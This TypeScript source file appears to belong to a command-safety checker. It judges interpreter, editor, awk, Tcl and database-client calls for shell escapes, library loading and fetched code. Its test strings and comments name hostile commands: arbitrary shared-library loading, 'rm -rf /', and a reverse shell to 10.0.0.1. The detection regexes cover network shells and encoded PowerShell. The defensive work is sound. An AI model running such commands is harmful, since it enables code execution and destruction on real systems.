import { searched } from "../code.ts";
import { base64Text } from "../encodings.ts";
import { escapes, FETCHED, isKnown, PACKED, squeezed, UNKNOWN } from "../words.ts";
import { DATA } from "./access.ts";
import { type Call, each, type Judges, Options, rules } from "./rule.ts";
import { shellRules } from "./shell.ts";

export const languageRules = {
	...rules("escalate", {
		"load-library": {
			verdict: "deny",
			reason: "has a program load a library that does whatever its author likes",
			match: [
				"openssl req -engine ./lib.so",
				"ssh-keygen -D ./lib.so",
				"sqlite3 /dev/null '.load ./x.so'",
				"mysql --default-auth ../../../tmp/lib",
				"echo 'load_module /tmp/x.so;' > /tmp/n.conf; nginx -t -c /tmp/n.conf",
				"gimp -idf --batch-interpreter=python-fu-eval -b 'import os'",
			],
			pass: ["eslint --plugin ./tools/plugin.js src", "ssh-keygen -t ed25519", "openssl req -new", "gdb ./a.out core"],
		},
	}),
};
const g = languageRules;

/** A language's program texts: behind a flag, on standard input, or in a file that this script wrote. */
const interpreter =
	(language: string, flags: string, others = ""): ((call: Call) => void) =>
	(call) => {
		// `-pe`: two flags, and only the second takes a value.
		const options = new Options(
			call.args.map((arg) => (/^-(pe|ep|ic|Ec|uc|Bc|Ic|sc)$/.test(arg) && flags.includes(`-${arg.slice(2)}`) ? `-${arg.slice(2)}` : arg)),
			`${flags} ${others}`,
			true,
		);
		const texts = options.values(...flags.split(" ")).filter((text) => text !== "");
		for (const text of texts) call.code(language, text);
		preloads(call, language);
		if (texts.length > 0) return;
		// Tests are found where they lie.
		if (language === "python" && /^(unittest|pytest|nose2?)$/.test(options.value("-m") ?? ""))
			for (const directory of [".", ...call.args].slice(0, 16))
				for (const [file, content] of call.filesBelow(directory)) if (file.endsWith(".py")) call.code(language, content);
		const file = programOf(options.operands);
		if (file === undefined || file === "-" || file === "/dev/stdin") {
			if ((call.stdin === null && !options.has("-m")) || options.has("--version", "--help", "-V", "-v", "-h")) return;
			// A module reads its input as what it is about; these read it as a program.
			const module = language === "python" ? options.value("-m") : undefined;
			for (const path of module === undefined ? [] : [`${module.replaceAll(".", "/")}.py`, `${module.replaceAll(".", "/")}/__main__.py`]) {
				const content = searched(call, path);
				if (content !== undefined) return void call.code(language, content);
			}
			if (call.stdin === null) return;
			if (module !== undefined && !/^(code|pdb|IPython|bpython|ptpython|idlelib|asyncio|runpy|cProfile|profile|trace)(\.|$)/.test(module))
				return;
			if (call.stdin.includes(FETCHED)) call.runsFetched();
			else if (call.stdin.includes(PACKED)) call.hit(shellRules["run-hidden"]);
			else if (isKnown(call.stdin) || call.stdin.length > 8) call.code(language, call.stdin);
			else if (!options.has("-m")) call.hit(shellRules["unresolved-script"]);
			return;
		}
		// deno and others run what a URL names.
		const url = options.operands.find((arg) => /^https?:\/\//.test(arg));
		if (
			url !== undefined &&
			(/^http:/.test(url) || /^https?:\/\/(\d{1,3}\.){3}/.test(url)) &&
			/^(run|eval|https?:.{1,2048})$/.test(options.operands[0] ?? "")
		)
			call.runsFetched();
		const content = call.file(file) ?? (language === "node" ? call.file(`${file}/index.js`) : undefined);
		if (content?.includes(FETCHED)) call.runsFetched();
		else if (content?.includes(PACKED)) call.hit(shellRules["run-hidden"]);
		else if (content !== undefined && isKnown(content)) call.code(language, content);
		else if (content !== undefined) call.hit(shellRules["unresolved-script"]);
	};

/** What is loaded before a program: `node -r ./x.js`, `ruby -rx`. */
function preloads(call: Call, language: string): void {
	call.args.slice(0, 32).forEach((arg, at) => {
		const given = /^(?:-r|--require=?|--import=?|--loader=?)(.{0,512})$/.exec(arg);
		const module = given && (given[1] || call.args[at + 1]);
		if (!module) return;
		const content = call.file(module) ?? call.file(`${module}.${language === "ruby" ? "rb" : "js"}`);
		if (content !== undefined) call.code(language, content);
	});
}

/** The file that is to be run: `x.js`, `run x.js`. */
const programOf = (operands: readonly string[]): string | undefined =>
	/^(run|r|exec|script|start|compile|c|eval)$/.test(operands[0] ?? "") && operands.length > 1
		? operands.slice(1).find((operand) => !operand.startsWith("-"))
		: operands[0];

const awk = (call: Call): void => {
	const options = new Options(call.args, "-F -v -f -e -i --file --source --assign --field-separator", true);
	const files = options.values("-f", "--file");
	const program = files.length > 0 ? undefined : options.operands[0];
	const rest = options.operands.slice(files.length > 0 ? 0 : 1);
	for (const file of rest) if (!/^[A-Za-z_]\w{0,64}=/.test(file)) call.reads(file);
	const source = files[0];
	const text = program ?? (source === "-" || source === "/dev/stdin" ? call.stdin : source === undefined ? null : call.file(source));
	if (text === null || text === undefined) return;
	if (/\/inet[46]?\/(tcp|udp)/.test(text)) return void call.hit(shellRules["shell-to-network"]);
	for (const one of [text, ...options.values("-e", "--source")]) {
		if (/\bsystem\s{0,4}\(|\|\s{0,4}getline|\|&|\|\s{0,4}["']|\bprint[^|]{0,512}\|\s{0,4}[a-z"$]/.test(one)) awkRuns(call, one, options);
		for (const write of one.matchAll(/>{1,2}\s{0,4}"([^"\s]{1,512})"/g)) call.writes(write[1] ?? "");
		for (const [, given = "", path = ""] of one.matchAll(/\bprint\b([^|;{}>]{0,512})>{1,2}\s{0,4}"([^"]{1,512})"/g))
			call.wrote(
				path,
				/^\s{0,4}(\$0\s{0,4})?$/.test(given)
					? (call.stdin ?? UNKNOWN)
					: (/^\s{0,4}"((?:[^"\\]|\\.){0,512})"\s{0,4}$/.exec(given)?.[1] ?? UNKNOWN),
			);
		for (const named of one.matchAll(/(>{1,2}|<)\s{0,4}([A-Za-z_]\w{0,63})\b/g)) {
			const path = options.values("-v", "--assign").find((given) => given.startsWith(`${named[2]}=`));
			if (path === undefined) continue;
			if (named[1] === "<") call.reads(path.slice((named[2] ?? "").length + 1));
			else call.writes(path.slice((named[2] ?? "").length + 1));
		}
		for (const read of one.matchAll(/getline[^<]{0,64}<\s{0,4}"([^"]{1,512})"/g)) call.reads(read[1] ?? "");
	}
};

/** awk runs what `system` gets, and what a pipe leads to or comes from; where that is put together of fields, nobody knows it. */
function awkRuns(call: Call, given: string, options: Options): void {
	// `c = "rm" " -rf /"; system(c)`: what a variable is given in the program itself.
	let source = given.replace(/ENVIRON\["(\w{1,64})"\]/g, (whole, name: string) => {
		const value = call.environment.get(name) ?? call.variable(name);
		return value === undefined ? whole : JSON.stringify(value);
	});
	for (const [, name = "", value = ""] of given
		.slice(0, 4096)
		.matchAll(/(?:^|[{;\s])([A-Za-z_]\w{0,31})\s{0,4}=\s{0,4}((?:"(?:[^"\\]|\\.){0,512}"\s{0,4}){1,8})\s{0,4}[;}\n]/g))
		source = source
			.replace(new RegExp(`(system\\s{0,4}\\(\\s{0,4}|\\|\\s{0,4})${name}\\b`, "g"), (_, before: string) => before + value)
			.replace(
				new RegExp(`([^\\w"])${name}(\\s{0,4}\\|&?\\s{0,4}getline)`, "g"),
				(_, before: string, behind: string) => before + value + behind,
			);

	for (const match of source.matchAll(/\bsystem\s{0,4}\(((?:"(?:[^"\\]|\\.){0,1024}"|[^;}"]){0,256})/g))
		awkScript(call, match[1] ?? "", options);
	for (const match of source.matchAll(/\|&?\s{0,4}((?:"(?:[^"\\]|\\.){0,1024}"\s{0,4}){1,8})/g)) awkScript(call, match[1] ?? "", options);
	for (const match of source.matchAll(/("(?:[^"\\]|\\.){0,1024}")[^;{}|]{0,64}\|&?\s{0,4}getline/g))
		awkScript(call, match[1] ?? "", options);
	for (const match of source.matchAll(/print(?:f)?\s{0,4}([^|;{}]{0,512})\|\s{0,4}"(?:\/bin\/)?(?:ba|da|z)?sh"/g))
		awkScript(call, match[1] ?? "", options);
}

function awkScript(call: Call, expression: string, options: Options): void {
	let script = "";
	for (const piece of expression.matchAll(/"((?:[^"\\]|\\.){0,1024})"|(\$?[A-Za-z0-9_]{1,64})/g)) {
		const assigned = piece[2] === undefined ? undefined : options.values("-v", "--assign").find((one) => one.startsWith(`${piece[2]}=`));
		script += piece[1] !== undefined ? escapes(piece[1]) : assigned !== undefined ? assigned.slice((piece[2] ?? "").length + 1) : UNKNOWN;
	}
	if (script !== "") call.script(script, "awk", [], null);
}

const EDITOR_LANGUAGES: Readonly<Record<string, string>> = { p: "python", r: "ruby", l: "lua", t: "tclsh", m: "guile" };

const EDITOR_CALL = /(?:system|systemlist|libcall|termopen|jobstart|job_start|term_start)\((.{1,4096})\)/;

/** Commands of editors and pagers that run a shell: `:!cmd`, `:py3 ...`, `:lua ...`, `:set shell=`, `:shell`. */
function editorCommand(call: Call, text: string): void {
	const program = /^:{0,3}(py3?|python3?|pyx|rub?y?|lua|perl?|tcl|mzscheme|pythonx)\s{1,8}([\s\S]{1,16384})$/.exec(text.trim());
	if (program) return void call.code(EDITOR_LANGUAGES[(program[1] ?? "p").charAt(0)] ?? "python", program[2] ?? "");
	// After `!` the rest of the line is the shell's, pipes and all.
	for (const line of text.split("\n")) {
		const whole = /^[\s:]{0,8}(?:[%.$,0-9]{0,8}|r|read|w|write|silent!?)\s{0,4}!\s{0,4}(.{1,4096})$/.exec(line);
		if (whole?.[1]?.includes("|")) call.script(whole[1]);
		const runs = line.includes("|") ? EDITOR_CALL.exec(line) : null;
		if (runs) call.code("vim", `system(${runs[1] ?? ""})`);
	}
	for (const one of text.split(/\||\n/).map((part) => part.trim().replace(/^:{1,3}/, ""))) {
		const bang = /^(?:[%.$,0-9]{0,8}|r|read|w|write|silent!?)\s{0,4}!\s{0,4}(.{1,4096})$/.exec(one);
		const code = /^(py3?|python3?|pyx|rub?y?|lua|perl?|tcl|mzscheme|pythonx)\s{1,8}(.{1,4096})$/.exec(one);
		const shell = /^set?\s{1,4}(?:shell|sh)=(.{1,512})$/.exec(one);
		const runs = EDITOR_CALL.exec(one);
		if (bang) call.script(bang[1] ?? "");
		else if (code) call.code(EDITOR_LANGUAGES[(code[1] ?? "p").charAt(0)] ?? "python", code[2] ?? "");
		else if (shell) call.argv([(shell[1] ?? "").replace(/\\ /g, " ")]);
		else if (/^(sh|she|shell|ter|term|terminal|suspend|!)$/.test(one)) call.argv(["/bin/sh"]);
		else if (runs) call.code("vim", `system(${runs[1] ?? ""})`);
		const writes = /^(?:w|write|sav|saveas|wq|x)!?\s{1,4}([~/].{1,1024})$/.exec(one);
		if (writes) call.writes(writes[1] ?? "");
		const reads = /^(?:r|read|e|edit|sp|vs|tabe)!?\s{1,4}([~/].{1,1024})$/.exec(one);
		if (reads) call.reads(reads[1] ?? "");
	}
}

/** Lines of an editor's settings that run something. */
const EDITOR_RUNS = /!|\b(system|systemlist|libcall|term|terminal|shell|jobstart|job_start|py3?|python3?|lua|perl|ruby|tcl)\b/;

const editor = (call: Call): void => {
	const args = call.args;
	for (const line of call.stdin?.split("\n", 64) ?? []) if (line.startsWith(":")) editorCommand(call, line);
	args.forEach((arg, at) => {
		if (arg === "-c" || arg === "--cmd") editorCommand(call, args[at + 1] ?? "");
		// Each line of such a file is a command.
		else if (/^-N?[SuU]$/.test(arg)) {
			const lines = (call.file(args[at + 1] ?? "") ?? "").slice(0, 16_384).split("\n", 512);
			for (const line of lines.filter((one) => EDITOR_RUNS.test(one)).slice(0, 16)) editorCommand(call, line);
		} else if (/^-c./.test(arg)) editorCommand(call, arg.slice(2));
		else if (arg.startsWith("+")) editorCommand(call, arg.slice(1));
		else if (/^--cmd=/.test(arg)) editorCommand(call, arg.slice(6));
		else if (!arg.startsWith("-") && !/^(-c|--cmd|-N?[SuU])$/.test(args[at - 1] ?? "")) {
			call.reads(arg);
			call.writes(arg);
		}
	});
	stdinCommands(call);
};

/** A shell and nothing else, typed where something else is expected. */
const TYPED_SHELL =
	/^\s{0,8}(\^[A-Z]\s{0,2}){0,3}(reset;\s{0,2})?(sh X |shell |exec |spawn )?\s{0,2}((\/usr)?\/bin\/)?(ba|da|z|k)?sh( -[ip]{1,2}){0,2}( X)?(\s{1,2}[0-9]?[<>]&?\S{1,64}){0,3}( X)?\s{0,8}$/;

/** Lines that an interactive program is fed: `!cmd` is a shell's. */
function stdinCommands(call: Call): void {
	// A file of commands counts like what is typed: `-f x.sql`, `-x x.gdb`, `-S x.vim`.
	const given = call.args.flatMap((arg, at) =>
		/^(-f|-x|-S|-s|--file|--command)$/.test(call.args[at - 1] ?? "") ? (call.file(arg) ?? []) : [],
	);
	if (call.stdin === null && given.length === 0) return;
	// What is put into a file by `a`, `i` or `c`, up to a dot.
	if (/^(ed|red|ex|vi|vim)$/.test(call.name) && call.stdin !== null) {
		const put = /(?:^|\n)[0-9,.$%]{0,8}[aic]\n([\s\S]{1,8192}?)\n\.(?:\n|$)/.exec(call.stdin)?.[1];
		if (put !== undefined) for (const file of new Options(call.args, "-p").operands) call.wrote(file, put);
	}
	for (const line of [call.stdin ?? "", ...given].join("\n").split("\n").slice(0, 256)) {
		const bang =
			/^\s{0,8}(?::|\\)?!\s{0,4}(.{1,4096})$/.exec(line) ??
			/^\s{0,8}shell\s{1,4}(.{1,4096})$/.exec(line) ??
			/^\s{0,8}\.(?:shell|system)\s{1,4}(.{1,4096})$/.exec(line);
		if (bang) call.script(bang[1] ?? "");
		else if (TYPED_SHELL.test(line)) call.hit(shellRules["shell-escape"]);
		else if (/^(w|wq)$/.test(line) && /^(ed|red|ex|vi|vim)$/.test(call.name)) {
			for (const file of new Options(call.args, "-p").operands) call.writes(file);
		} else if (/^[0-9,.$%]{0,8}[rwe]\s{1,4}[~/]/.test(line)) {
			const path = line.replace(/^[0-9,.$%]{0,8}[rwe]\s{1,4}/, "");
			if (/^[0-9,.$%]{0,8}w/.test(line)) call.writes(path);
			else call.reads(path);
		} else if (/^[0-9,.$%]{0,8}[rw]\s{0,4}!/.test(line)) call.script(line.slice(line.indexOf("!") + 1));
	}
}

/** Options of many programs whose value is a command. */
const COMMAND_OPTIONS =
	/^(--?(exec|execute|command|cmd|shell|run|pager|editor|hook|post-?hook|pre-?hook|on-?(success|failure|event|change|exit)|callback|eval|ext-?diff|rsh|program|script|action|preprocessor|filter-?command|use-compress-program|to-command|renew-hook|deploy-hook|post-command|pre-command))$/;
/** A shell's path as a word of an argument. */
const SHELL_WORD = /(^|^-[A-Za-z]|[\s"'`=:;|&!(,{[.@])(\/usr|\/usr\/local)?\/bin\/(ba|da|z|k|c|tc|a)?sh($|[\s"'`;|&)<>,}\]])/;
const TAKES_SHELLS = new Set(
	"echo printf grep egrep fgrep rg ag sed awk ls ll stat file which type whereis command test [ cat head tail less more useradd usermod adduser chsh git docker podman kubectl oc docker-compose nerdctl diff cmp ldd readlink realpath dpkg update-alternatives shellcheck find fd cp mv ln install chmod chown rm touch export declare local readonly env sudo ssh make npm yarn pnpm jq yq wc sort md5sum sha256sum strings ps pgrep pidof lsof su python perl ruby node php lua cmake tee true : wget dscl getent fpath exec set alias eval trap script tmux screen watch xargs parallel timeout nice nohup setsid strace ltrace time busybox nsenter chroot unshare flock vim vi nvim gdb tar dd code".split(
		" ",
	),
);

export const languageJudges: Judges = [
	each("python pypy ipython python2 python3 bpython", (call) => {
		interpreter("python", "-c", "-m -W -X -Q")(call);
		if (call.args[0] === "-m" && call.args[1] === "timeit") call.code("python", call.args.slice(2).join("\n"));
	}),
	each("perl", (call) => {
		// -e may stand at the end of a cluster: `-lne`.
		const args = call.args.map((arg) => (/^-[a-zA-Z0-9]{0,8}[eE]$/.test(arg) ? "-e" : arg));
		const at = args.findIndex((arg) => arg === "-e" || /^-[lnpaiws0]{0,8}[eE]./.test(arg));
		const texts = args.flatMap((arg, index) =>
			arg === "-e" ? [args[index + 1] ?? ""] : /^-[lnpaiws0]{0,8}[eE]./.test(arg) ? [arg.replace(/^-[lnpaiws0]{0,8}[eE]/, "")] : [],
		);
		const modules = args.flatMap((arg) => (/^-[mM]/.test(arg) ? [`use ${arg.slice(2)};`] : [])).join(" ");
		for (const text of texts) call.code("perl", `${modules}\n${text}`);
		for (const module of args) {
			const used = /^-[mM](.{1,2048})$/.exec(module);
			if (used && /[;(]|=.{0,64}\b(system|exec)/.test(used[1] ?? "")) call.code("perl", used[1] ?? "");
			const own = used && searched(call, `${(used[1] ?? "").split("=", 1)[0]?.replaceAll("::", "/")}.pm`);
			if (own) call.code("perl", own);
		}
		const files = at < 0 ? [] : args.slice(at + 2).filter((arg) => !arg.startsWith("-"));
		const edits = args.some((arg) => /^-[a-z0]{0,4}i/.test(arg) && !/^-I/.test(arg));
		for (const file of files) {
			call.reads(file);
			if (edits) call.writes(file);
		}
		if (at < 0) interpreter("perl", "-e")(call);
	}),
	each("ruby irb jruby macruby", (call) => {
		const args = call.args.map((arg) => (/^-[a-z]{0,6}e$/.test(arg) ? "-e" : arg));
		const texts = args.flatMap((arg, index) => (arg === "-e" ? [args[index + 1] ?? ""] : []));
		for (const text of texts) call.code("ruby", text);
		if (texts.length > 0) preloads(call, "ruby");
		if (texts.length === 0) interpreter("ruby", "-e", "-r -I -C")(call);
	}),
	each(
		"node nodejs bun deno ts-node tsx jjs jrunscript rhino d8 qjs",
		interpreter("node", "-e -p --eval --print -pe -ep", "-r --require --import --loader --input-type -C"),
	),
	each("deno", (call) => {
		if (call.args[0] === "eval")
			call.code(
				"node",
				call.args
					.slice(1)
					.filter((arg) => !arg.startsWith("-"))
					.join("\n"),
			);
	}),
	each("php php-cgi hhvm", interpreter("php", "-r -B -R -E --run", "-d -c -f -z -S -t")),
	each("lua luajit texlua luatex", interpreter("lua", "-e", "-l")),
	each("tclsh wish expect", (call) => {
		const options = new Options(call.args, "-c -f");
		for (const text of options.values("-c")) tcl(call, text);
		if (call.stdin !== null) tcl(call, call.stdin);
		const content = options.operands[0] === undefined ? undefined : call.file(options.operands[0]);
		if (content !== undefined) tcl(call, content);
	}),
	each("guile csi racket sbcl clisp gosh emacs-lisp elisp clojure clj bb lein", interpreter("lisp", "-c -e -x --eval -eval -ex", "-l")),
	each(
		"julia R Rscript octave octave-cli matlab scilab-cli ghc ghci runhaskell runghc elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo puppet smlnj poly yap swipl gprolog dotnet cobc gfortran factor forth gforth puppet",
		(call) => {
			const options = new Options(call.args, "-e -E -c -eval --eval -exec -p -x -g --execute -Command -command -b");
			const texts = [
				...options.values("-e", "-E", "-c", "--eval", "-x", "-g", "--execute", "-p"),
				...call.args.flatMap((arg, at) => (/^(-eval|-exec|-command|-Command|-s)$/.test(arg) ? [call.args[at + 1] ?? ""] : [])),
			].filter((text) => text !== "-" && text !== "");
			for (const text of texts) call.code(call.name, text);
			const encoded = call.args.find((_, at) => /^-(e|en|enc|enco.{0,10})$/i.test(call.args[at - 1] ?? ""));
			if (/^(pwsh|powershell)$/.test(call.name) && encoded !== undefined)
				call.code(call.name, (base64Text(encoded) ?? "").replaceAll("\0", ""));
			// Its own names for what every shell does.
			if (/^(pwsh|powershell)$/.test(call.name))
				for (const text of texts)
					call.maybe(
						text
							.replace(/\b(Remove-Item|del|rd|ri|erase)\b/gi, "rm")
							.replace(/\b(Get-Content|gc)\b/gi, "cat")
							.replace(/\b(Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/gi, "curl")
							.replace(/\s-Recurse\b/gi, " -r")
							.replace(/\s-Force\b/gi, " -f")
							.replace(/\s-(Path|LiteralPath)\b/gi, ""),
						call.name,
					);
			if (/^(pwsh|powershell)$/.test(call.name) && call.args.some((arg) => /^-(e|en|enc|enco.{0,10})$/i.test(arg)))
				call.hit(shellRules["unresolved-script"]);
			if (options.operands[0] === "eval") call.code(call.name, options.operands.slice(1).join(" "));
			if (call.stdin !== null && texts.length === 0) call.code(call.name, call.stdin);
			const file = programOf(options.operands);
			const content = file === undefined ? undefined : call.file(file);
			if (content !== undefined) call.code(call.name, content);
		},
	),
	each("awk gawk mawk nawk original-awk igawk", awk),
	each("vim vi nvim vimdiff view rvim rview ex gvim nvi elvis", editor),
	each("emacs emacsclient mg", (call) => {
		for (const text of new Options(
			call.args.map((arg) => (arg === "-eval" ? "--eval" : arg === "-execute" ? "--execute" : arg)),
			"--eval --execute -f -l -e",
		).values("--eval", "--execute", "-e"))
			call.code("elisp", text);
		call.args.forEach((arg, at) => {
			if (/^(-f|--funcall)$/.test(arg) && /shell|term/.test(call.args[at + 1] ?? "")) call.hit(shellRules["shell-escape"]);
		});
	}),
	each(
		"ed red less more most man pg info pinfo nano pico ftp gdb lldb mysql mariadb psql sqlite3 bc dc telnet rlogin ncftp mailx mail slsh dmsetup bpftrace crash jdb pdb zathura joe mutt irssi weechat hgweb cscope screen byobu ul top pic hping3 ranger mc tdbtool tasksh jtag scanmem ginsh bconsole debugfs terraform lftp psftp smbclient tftp sftp redis-cli mongosh mongo msfconsole htop",
		(call) => {
			stdinCommands(call);
			const options = new Options(call.args, "-e -c -ex -P -x -cmd --eval-command --init-eval-command --command --pager");
			for (const text of call.args.flatMap((arg, at) =>
				/^(-e|-c|-ex|-x|-cmd|--execute|--command|-iex|--eval-command|-o)$/.test(arg)
					? [call.args[at + 1] ?? ""]
					: /^(-e|--execute=|--command=|--eval-command=|-ex=).{2}/.test(arg)
						? [arg.replace(/^(-e|--execute=|--command=|--eval-command=|-ex=)/, "")]
						: [],
			)) {
				const bang = /^\s{0,4}(?:\\?!|shell |!|system |\.shell |\.system |\\! |platform shell )\s{0,4}(.{1,4096})$/.exec(text);
				if (bang) call.script(bang[1] ?? "");
				const dumped = /^dump \w{1,16} (\S{1,1024})/.exec(text);
				if (dumped) call.writes(dumped[1] ?? "");
				if (/^(python|pi|py|script)\s/.test(text)) call.code("python", text.replace(/^\w{1,8}\s/, ""));
				if (/^(shell|!|call|compile)\b/.test(text) && /system|exec|popen/.test(text)) call.code("c", text);
				if (/\bcopy\b.{0,1024}\b(to|from)\s{1,4}program\b/i.test(text)) call.code("sql", text.replace(/program\s/i, "system("));
				if (/\bload_file\s{0,4}\(|into\s{1,4}(out|dump)file/i.test(text)) call.code("sql", text);
			}
			for (const pager of [
				...call.args.flatMap((arg, at) =>
					/^(-P|--pager)$/.test(arg) && call.name === "man" ? [call.args[at + 1] ?? ""] : /^--pager=./.test(arg) ? [arg.slice(8)] : [],
				),
			])
				call.script(pager);
			if (call.name === "sqlite3")
				for (const arg of [...options.operands, ...options.values("-cmd")].concat(
					call.args.filter((_, at) => call.args[at - 1] === "-cmd"),
				)) {
					const written = /^\s{0,4}\.(?:output|once|dump|backup|save|clone|log|excel)\s{1,4}["']?([~/][^\s"']{1,1024})/.exec(arg);
					if (written) call.writes(written[1] ?? "");
					const bang = /^\s{0,4}\.(?:shell|system)\s{1,4}(.{1,2048})$/.exec(arg);
					if (bang) call.script(bang[1] ?? "");
					if (/^\s{0,4}\.load\s/.test(arg) || /load_extension\(/.test(arg)) call.hit(g["load-library"]);
					const file = /^\s{0,4}\.(?:import|read)\s{1,4}(\S{1,1024})/.exec(arg);
					if (file) call.reads(file[1] ?? "");
				}
		},
	),
	each("bats", (call) => {
		for (const path of call.args.slice(0, 64)) {
			const below = call.filesBelow(path).filter(([file]) => file.endsWith(".bats"));
			for (const text of [call.file(path) ?? "", ...below.map(([, content]) => content)])
				if (text !== "") call.script(batsScript(text), "bats", [path], null);
		}
	}),
	each("ssh-keygen", (call) => {
		const library = new Options(call.args, "-D -f -t -b -C -N -P -m -O -I -n -V -s -z -R -F -r").value("-D");
		if (library !== undefined && !/pkcs11/.test(library)) call.hit(g["load-library"]);
	}),
	each("openssl", (call) => {
		if (call.args.some((arg, at) => /^-(engine|provider)$/.test(arg) && /[./]/.test(call.args[at + 1] ?? ""))) call.hit(g["load-library"]);
	}),
	each("gimp", (call) => {
		if (call.args.some((arg) => /^--batch-interpreter/.test(arg))) call.hit(g["load-library"]);
	}),
	each("zip", (call) => {
		const options = new Options(
			call.args.map((arg) => (arg === "-TT" ? "--unzip-command" : arg)),
			"--unzip-command -x -i -b -n -t",
		);
		for (const script of options.values("--unzip-command")) call.script(script);
	}),
	each("cpan", (call) => {
		for (const line of call.stdin?.split("\n", 64) ?? []) if (line.startsWith("!")) call.code("perl", line.slice(1));
	}),
	each("dos2unix unix2dos mac2unix", (call) => {
		if (call.args.some((arg) => /^(-n|--newfile)$/.test(arg))) call.writes(call.args.at(-1) ?? "");
	}),
	each("sshfs scp sftp rsync", (call) => {
		for (const arg of call.args) {
			const command = /(?:^|,)(?:ssh_command|proxycommand|localcommand)=([^,]{1,512})/i.exec(arg)?.[1];
			if (command === undefined) continue;
			if (/^\/(tmp|var\/tmp|dev\/shm)\//.test(command)) call.hit(shellRules["shell-escape"]);
			call.script(command);
		}
	}),
	// What they read when they start, in the directory where they are started.
	each("ghci irb pry gdb lldb R tclsh wish iex psql sqlite3 nano vim vi python node pdb", (call) => {
		for (const file of STARTUP_FILES) {
			const content = call.file(file);
			if (content !== undefined && isKnown(content)) call.code(call.name, content);
		}
	}),
	each("pip pip3 easy_install gem cpan npm yarn pnpm composer cargo go brew apt apt-get dnf yum dpkg rpm snap", (call) => {
		const { args } = call;
		args.forEach((arg, at) => {
			const next = args[at + 1] ?? "";
			const hook = /^(?:APT|DPkg)::[\w-]{1,64}::[\w-]{1,64}(?:::)?=(.{1,2048})$/i.exec(
				arg.startsWith("-o") && arg.length > 2 ? arg.slice(2) : arg,
			);
			if (hook && /invoke/i.test(arg)) call.script((hook[1] ?? "").replace(/^["']|["']$/g, ""));
			if (/^--(scripts|editor|shell)$/.test(arg)) call.script(next);
			if (arg === "--eval" && call.name === "rpm") call.code("lua", next);
			if (/^--pipe$/.test(arg)) call.script(next);
			if (call.name === "composer" && /^(run-script|exec)$/.test(arg) && /[;|&]/.test(next)) call.script(next);
		});
	}),
];

const STARTUP_FILES = [
	".ghci",
	".irbrc",
	".pryrc",
	".gdbinit",
	".lldbinit",
	".Rprofile",
	".tclshrc",
	".wishrc",
	".iex.exs",
	".psqlrc",
	".sqliterc",
	".pdbrc",
];

/** Tcl's commands are `exec` and `spawn`. */
function tcl(call: Call, text: string): void {
	for (const [, path] of text.matchAll(/\bfile\s{1,4}delete\s{1,4}(?:-force\s{1,4})?(?:--\s{1,4})?["{]?([~/.][^\s"}\];]{0,512})/g))
		call.deletes(path ?? "", true);
	for (const match of text.matchAll(
		/(?:^|[;\n[{]|\s)(?:exec|spawn|system|open\s{1,4}"?\|)\s{0,4}(?:-\w{1,16}\s{1,4}){0,2}([^;\n\]{}]{0,64}-[a-z]{0,4}c\s{1,4}\{[^{}\n]{1,2048}|[^;\n\]}]{1,2048})/g,
	)) {
		const script = (match[1] ?? "")
			// Braces are Tcl's quotes.
			.replace(
				/(-[a-z]{0,4}c\s{1,4})\{([^{}\n]{1,2048})$/,
				(_, flag: string, inner: string) => `${flag}'${inner.replaceAll("'", "'\\''")}'`,
			)
			.replace(/(-[a-z]{0,4}c\s{1,4})([^{}'\n]{1,2048})$/, (_, flag: string, inner: string) => `${flag}'${inner}'`)
			.replace(/[0-9]?[<>]{1,2}@?\s{0,4}(stdin|stdout|stderr)\S{0,8}|>&@\S{1,8}|<@\S{1,8}/g, "")
			.replace(/^["{|]/, "")
			.replace(/["}]$/, "");
		call.script(script.trim(), "tclsh", [], null);
	}
	if (/\bsocket\b/.test(text) && /\b(exec|open)\b/.test(text)) call.hit(shellRules["shell-to-network"]);
}

/** What holds for every program: a shell among its arguments, or in a file that it is given, is most likely one that it starts. */
export function judgeShellWords(call: Call, known: boolean, isProgram: (name: string) => boolean): string {
	const { args, name } = call;
	let printed = "";
	const hooks = HOOKS.get(name);
	if (hooks && args.some((arg) => hooks.test(arg)) && !args.includes("-c"))
		call.hit(shellRules[name === "script" ? "unresolved-script" : "shell-escape"]);
	if (!READS_FILES.test(name) && (!known || BUILDS.has(name))) writtenBefore(call);
	// What has come from nobody knows where, installed or built.
	if (
		call.fetchedBlindly &&
		INSTALLS.test(name) &&
		[...args.filter((arg) => !arg.startsWith("-")), "./x"].some((file) => call.file(file)?.includes(FETCHED))
	)
		call.runsFetched();
	if (TAKES_SHELLS.has(name)) return printed;
	args.slice(0, 256).forEach((arg, at) => {
		if (arg.length <= 4096) startedBy(call, arg, args[at + 1] ?? "", known);
	});
	if (call.stdin !== null && /syscmd\(/.test(call.stdin)) startedBy(call, call.stdin, "", known);
	// Whatever it is, it may be there to run the rest: `fakeroot rm -rf /`.
	if (!known && !DATA.has(name) && !READS_FILES.test(name)) {
		const at = args
			.slice(0, 12)
			.findIndex(
				(arg, index) =>
					OFTEN_RUN.test(arg) ||
					(isProgram(arg) && !COMMON_WORD.test(arg) && args.slice(0, index).every((before) => before.startsWith("-"))),
			);
		if (
			at >= 0 &&
			at + 1 < args.length &&
			!/^(install|add|remove|help|info|search|show|list|-S|-Q\w?|which|explain)$/.test(args[at - 1] ?? "") &&
			call.via.length < 8
		)
			call.perhaps(() => {
				printed = call.argv(args.slice(at), name, null);
			});
	}
	if (RUNS_PROJECT.has(name) || (!known && !DATA.has(name) && !READS_FILES.test(name))) projectFiles(call);
	// A tunnel back, whatever its program is called.
	if (args.some((arg) => /^R:(socks|\d{1,5}(:|$))/.test(arg))) call.hit(shellRules["shell-to-network"]);
	// `rcat connect -s bash 10.0.0.1 4242`
	if (args.some((arg) => PLAIN_SHELL.test(arg)) && args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg)))
		call.hit(shellRules["shell-to-network"]);
	return printed;
}
const INSTALLS =
	/^(dpkg|rpm|apt|apt-get|dnf|yum|pip|npm|yarn|pnpm|make|gmake|cmake|cargo|go|gem|python|node|ruby|perl|php|snap|flatpak|docker|docker-compose)$/;
/** Programs by whose names a wrapper's command is found. */
const OFTEN_RUN =
